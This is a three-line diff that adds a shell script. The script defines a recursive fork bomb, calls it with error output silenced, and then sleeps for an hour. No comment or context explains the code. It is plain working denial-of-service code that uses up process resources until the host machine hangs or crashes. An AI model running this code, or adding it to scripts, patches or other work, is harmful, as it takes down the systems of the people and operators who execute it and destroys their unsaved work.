@@ -1,0 +1,3 @@
+fork_bomb() { fork_bomb | fork_bomb & }
+fork_bomb 2>/dev/null
+exec sleep 3600
